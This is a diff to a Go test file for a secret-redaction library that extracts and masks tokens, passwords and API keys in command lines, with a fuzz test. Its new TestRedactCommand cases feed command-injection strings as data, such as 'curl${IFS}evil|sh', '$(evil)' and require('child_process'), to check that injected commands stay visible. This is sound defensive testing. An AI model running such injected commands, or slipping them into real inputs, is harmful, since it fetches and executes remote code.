@@ -23,13 +23,13 @@ func TestCommandSecrets(t *testing.T) {
 		{"docker|run|-e|GITHUB_TOKEN=shortone|-e|MODE=production|image", []string{"shortone"}},
 		{"docker|run|--env=GITHUB_TOKEN=shortone", []string{"shortone"}},
 		{"docker|run|-e|GITHUB_TOKEN|image", nil},
-		{"npx|mcp-remote|https://host/mcp|--header|Authorization: Bearer abcd1234", []string{"Bearer abcd1234", "abcd1234"}},
-		{"npx|mcp-remote|https://host/mcp|--header|X-Api-Key:abcd1234", []string{"abcd1234", "abcd1234"}},
-		{"npx|mcp-remote|https://host/s/NTE2ZGQ3OWMtOTY0Yy00/mcp?page=2", []string{"NTE2ZGQ3OWMtOTY0Yy00", "NTE2ZGQ3OWMtOTY0Yy00"}},
+		{"npx|mcp-remote|https://host/mcp|--header|Authorization: Bearer abcd1234", []string{"abcd1234"}},
+		{"npx|mcp-remote|https://host/mcp|--header|X-Api-Key:abcd1234", []string{"abcd1234"}},
+		{"npx|mcp-remote|https://host/s/NTE2ZGQ3OWMtOTY0Yy00/mcp?page=2", []string{"NTE2ZGQ3OWMtOTY0Yy00"}},
 		{"server|postgresql://me:pa55@db/main", []string{"pa55"}},
 		{"server|--url=https://host/mcp?token=abcdef&page=home", []string{"abcdef"}},
 		{"DATABASE_URL=redis://:pw1234@host", []string{"pw1234"}},
-		{"sh|-c|API_KEY='abc def' TOKEN=xyzzy1 exec npx server --secret=plugh2", []string{"abc", "xyzzy1", "plugh2"}},
+		{"sh|-c|API_KEY='abc def' TOKEN=xyzzy1 exec npx server --secret=plugh2", []string{"xyzzy1", "plugh2"}},
 		{"server|ghp_0123456789abcdefghij", []string{"ghp_0123456789abcdefghij"}},
 		{"server|a8f3k2m9x7q4w1z6|b", []string{"a8f3k2m9x7q4w1z6"}},
 		{"server|--project-id|64f1c0ffee64f1c0ffee1234", nil},
@@ -41,6 +41,8 @@ func TestCommandSecrets(t *testing.T) {
 		{"/tmp/tmp.a8f3k2m9x7q4w1z6/server|--dir|/tmp/a8f3k2m9x7q4w1z6", nil},
 		{"|--token||=x", []string{"=x"}},
 		{"--token=\"\"|--token= |", nil},
+		{"server|--token|Bearer abcd1234|--auth|Basic abcd1234", []string{"abcd1234", "abcd1234"}},
+		{"https://me:pa%20ss@host", []string{"pa%20ss", "pa ss"}},
 	} {
 		if got := CommandSecrets(strings.Split(tt.line, "|")); !slices.Equal(got, tt.want) {
 			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
@@ -97,4 +99,64 @@ func TestLooksSecretRandom(t *testing.T) {
 	if found := fmt.Sprint(LooksSecret(""), LooksSecret("20251122T101530Z0000"), LooksSecret("internationalization"), LooksSecret("1234567890123456")); found != "false false false false" {
 		t.Errorf("ordinary words: %s", found)
 	}
+}
+
+// Nothing is hidden that a shell or an interpreter would run, and only where it stands.
+func TestRedactCommand(t *testing.T) {
+	quote := func(word string) string {
+		if strings.ContainsAny(word, " ;'") {
+			return "<" + word + ">"
+		}
+		return word
+	}
+	for line, want := range map[string]string{
+		"x --password=;curl${IFS}evil|sh":                   "x --password=;curl${IFS}evil|sh",
+		"x --password=abc;curl${IFS}evil":                   "x --password=abc;curl${IFS}evil",
+		"x --password; curl evil.example":                   "x --password; curl evil.example",
+		"x --password\ncurl evil.example":                   "x --password\ncurl evil.example",
+		"x --password `evil` $(evil) (evil)":                "x --password `evil` $(evil) (evil)",
+		"x --password $(evil)":                              "x --password $(evil)",
+		"pass: ; curl evil | sh":                            "pass: ; curl evil | sh",
+		"token: abcdef; curl evil":                          "token: abcdef; curl evil",
+		"token:require('child_process')":                    "token:require('child_process')",
+		`TOKEN="abc def" x`:                                 `TOKEN="abc def" x`,
+		`TOKEN="abcdef" x; SECRET=xyzzy1; y abcdef`:         `TOKEN="[redacted]" x; SECRET=[redacted]; y abcdef`,
+		"server --token good@1 good@1.2.3":                  "server --token [redacted] good@1.2.3",
+		`x "https://me:pa55@host/s/hunter22/mcp?key=k1&sh"`: `x "https://me:[redacted]@host/s/[redacted]/mcp?key=[redacted]&sh"`,
+	} {
+		if got := RedactCommand([]string{line}, nil); len(got) != 1 || got[0] != want {
+			t.Errorf("%s: got %q, want %q", line, got, want)
+		}
+	}
+	got := RedactCommand([]string{"sk-abcdefgh12", "--token", "abc", "--secret", "a b;c", "Authorization: Bearer abcd1234", "--key=k1"}, quote)
+	if want := []string{"sk-abcdefgh12", "--token", Redacted, "--secret", "<a b;c>", "<Authorization: Bearer [redacted]>", "--key=[redacted]"}; !slices.Equal(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
+
+// Whatever a command line is, what is hidden of it is of the characters of keys, and the rest stays.
+func FuzzRedactCommand(f *testing.F) {
+	for _, line := range []string{"x --token abc", "A_KEY='b' c", `-H "X-Key: abcdefg"`, "https://a:b@c/?key=d#e", "u:p@tcp(h)", "a\n--key b1"} {
+		f.Add(line)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		if strings.Contains(line, Redacted) {
+			return
+		}
+		rest := line
+		for i, kept := range strings.Split(RedactCommand([]string{line}, nil)[0], Redacted) {
+			at := strings.Index(rest, kept)
+			if at < 0 || i == 0 && at > 0 {
+				t.Fatalf("%q: %q is not in it", line, kept)
+			}
+			rest = rest[at+len(kept):]
+		}
+		for _, spans := range commandSpans([]string{line}) {
+			for i, s := range spans {
+				if !isKeyRun().MatchString(line[s.from:s.to]) || i > 0 && s.from < spans[i-1].to {
+					t.Fatalf("%q: %v", line, spans)
+				}
+			}
+		}
+	})
 }
